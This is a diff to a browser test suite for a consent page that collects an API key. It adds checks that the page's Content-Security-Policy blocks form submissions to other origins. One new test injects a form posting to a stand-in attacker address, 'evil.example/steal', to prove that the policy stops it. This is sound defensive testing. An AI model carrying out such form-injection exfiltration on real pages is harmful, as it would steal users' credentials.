@@ -47,6 +47,8 @@ for (const javaScriptEnabled of [true, false]) {
       expect(headers['cache-control']).toContain('no-store');
       await expect(page.getByTestId('client-name')).toHaveText('Claude');
       await expect(page.getByTestId('redirect-host')).toHaveText('claude.ai');
+      // Chromium applies form-action to the redirect after the POST: the callback origin is allowed.
+      await expect(page.locator('head meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', "form-action 'self' https://claude.ai");
       const key = page.getByLabel('API key');
       await expect(key).toHaveAttribute('type', 'password');
       await expect(key).toHaveAttribute('autocomplete', 'off');
@@ -83,3 +85,24 @@ for (const javaScriptEnabled of [true, false]) {
     });
   });
 }
+
+test('the consent page refuses to submit a form to any origin but its own and the callback', async ({ page, context }) => {
+  let leaked = false;
+  await context.route('https://evil.example/**', (route) => {
+    leaked = true;
+    return route.fulfill({ status: 200, body: 'leaked' });
+  });
+  await openConsent(page, 'csp-state');
+  const violation = page.evaluate(
+    () => new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true })),
+  );
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = 'https://evil.example/steal';
+    document.body.append(form);
+    form.submit();
+  });
+  expect(await violation).toBe('form-action');
+  expect(leaked).toBe(false);
+});
